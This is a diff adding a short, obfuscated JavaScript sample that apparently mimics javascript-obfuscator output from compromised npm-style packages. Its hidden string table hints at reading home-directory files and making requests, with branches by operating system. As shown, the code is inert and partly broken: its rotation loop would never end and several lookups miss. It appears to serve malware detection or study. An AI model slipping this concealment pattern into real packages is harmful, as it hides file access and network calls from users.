@@ -0,0 +1,7 @@
+// String array rotation emitted by javascript-obfuscator, as found in compromised packages
+const _0x3f1a2b=_0x5c9e;(function(_0x1d2e3f,_0x4a5b6c){const _0x2b7c8d=_0x5c9e,_0x6e7f80=_0x1d2e3f();while(!![]){try{const _0x91a2b3=parseInt(_0x2b7c8d(0x1a4))/0x1+-parseInt(_0x2b7c8d(0x19f))/0x2*(parseInt(_0x2b7c8d(0x1a1))/0x3)+parseInt(_0x2b7c8d(0x1a7))/0x4;if(_0x91a2b3===_0x4a5b6c)break;else _0x6e7f80['push'](_0x6e7f80['shift']());}catch(_0xc4d5e6){_0x6e7f80['push'](_0x6e7f80['shift']());}}}(_0x1f2a,0x5a3c1));
+function _0x1f2a(){const _0x7a8b9c=['platform','homedir','win32','linux','readFileSync','request'];_0x1f2a=function(){return _0x7a8b9c;};return _0x1f2a();}
+function _0x5c9e(_0x2a3b4c,_0x5d6e7f){const _0x8f9a0b=_0x1f2a();return _0x5c9e=function(_0xa1b2c3,_0xd4e5f6){_0xa1b2c3=_0xa1b2c3-0x19f;let _0x0a1b2c=_0x8f9a0b[_0xa1b2c3];return _0x0a1b2c;},_0x5c9e(_0x2a3b4c,_0x5d6e7f);}
+const _0x4b5c6d = _0x3f1a2b;
+const os=require('os');if(os.platform()==='win32'){_0x4b5c6d(0x1a2);}else if(process.platform==="darwin"){_0x4b5c6d(0x1a3);}
+try{_0x4b5c6d(0x1a5)(_0x5c9e(0x1a6));}catch(_0xabcdef){}